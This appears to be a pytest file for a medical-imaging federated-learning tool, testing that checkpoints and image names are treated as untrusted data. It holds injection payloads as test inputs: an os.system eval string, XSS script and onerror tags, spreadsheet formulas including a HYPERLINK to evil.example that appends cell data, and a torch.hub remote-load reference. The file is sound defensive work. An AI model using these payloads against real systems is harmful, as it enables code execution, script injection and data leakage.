"""A model file is data of somebody else: nothing that it says is run by the commands that read it."""

import sys
from pathlib import Path
from typing import Any

import pytest

from fedmr_med.config import merge
from fedmr_med.models import state_arrays
from fedmr_med.models.job_network import whole_network
from fedmr_med.models.model_file import read_tensors, save_model, write_tensors
from fedmr_med.schema import as_yaml, parse_yaml
from tests.helpers.command_line import call
from tests.helpers.errors import raises
from tests.helpers.pictures import read_csv, write_csv
from tests.helpers.small import small_job


def changed(model: Path, folder: Path, changes: dict[str, Any]) -> Path:
    """Write a model file whose job was changed by somebody who knows the format."""
    content = read_tensors(model)
    job = merge(parse_yaml(content["job"]), changes)
    write_tensors(folder / "hostile.pt", content | {"job": as_yaml(job), "class_names": job["task"]["class_names"]})
    return folder / "hostile.pt"


def commands(model: Path, pictures: Path, folder: Path) -> list[list[object]]:
    manifest = folder / "manifest.csv"
    write_csv(manifest, ("image", "label", "fold"), [(str(pictures / "a.png"), "NV", "test")])
    return [
        ["predict", model, pictures, "-o", folder / "predictions.csv"],
        ["export", model, "-o", folder / "bundle"],
        ["evaluate", model, manifest, "-o", folder / "scores"],
        ["evaluate", model, "--job", folder / "job"],
    ]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("changes", "key"),
    [
        ({"task": {"class_names": ["$__import__('os').system('id')", *"ABCDEFG"]}}, "task.class_names.0"),
        ({"task": {"class_names": ["=1+1", *"ABCDEFG"]}}, "task.class_names.0"),
        ({"task": {"class_names": ["<script>alert(1)</script>", *"ABCDEFG"]}}, "task.class_names.0"),
        ({"name": "<img src=x onerror=alert(2)>"}, "name"),
    ],
)
def test_names_that_something_would_run_leave_nothing_behind(
    changes: dict[str, Any], key: str, run: Path, pictures: Path, tmp_path: Path
) -> None:
    model = changed(run / "best_model.pt", tmp_path, changes)
    for command in commands(model, pictures, tmp_path):
        with raises("config.name", key):
            call(*command)
    assert {path.name for path in tmp_path.iterdir()} == {"hostile.pt", "manifest.csv"}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("torch.hub.load", {"repo_or_dir": "somebody/else", "model": "any"}),
        ("tests.inference.hostile_network.Network", {}),
    ],
)
def test_a_class_that_a_model_file_names_is_not_even_imported(
    name: str, options: dict[str, Any], run: Path, pictures: Path, tmp_path: Path
) -> None:
    model = changed(run / "best_model.pt", tmp_path, {"model": {"name": name, "options": options}})
    for command in commands(model, pictures, tmp_path):
        with raises("checkpoint.code"):
            call(*command)
    assert name.rpartition(".")[0] not in sys.modules.keys() - {"torch.hub"}
    assert {path.name for path in tmp_path.iterdir()} == {"hostile.pt", "manifest.csv"}


def test_a_network_of_ones_own_is_built_where_one_says_so(pictures: Path, tmp_path: Path) -> None:
    job = small_job(model={"name": "fedmr_med.models.small_cnn.SmallCNN"})
    save_model(tmp_path / "own.pt", state_arrays(whole_network(job)), job, round_number=1)
    for command in commands(tmp_path / "own.pt", pictures, tmp_path)[:2]:
        with raises("checkpoint.code"):
            call(*command)
        call(*command, "--allow-code")


def test_the_name_of_a_picture_is_no_formula(run: Path, pictures: Path, tmp_path: Path) -> None:
    name = '=HYPERLINK("http:--evil.example"&A1,"x").png'
    (tmp_path / "images").mkdir()
    (tmp_path / "images" / name).write_bytes((pictures / "a.png").read_bytes())
    (tmp_path / "images" / "@broken.png").write_bytes(b"none")
    out = tmp_path / "predictions.csv"
    call("predict", run / "best_model.pt", tmp_path / "images", "-o", out)
    assert [row["image"] for row in read_csv(out)] == ["'" + name, "'@broken.png"]
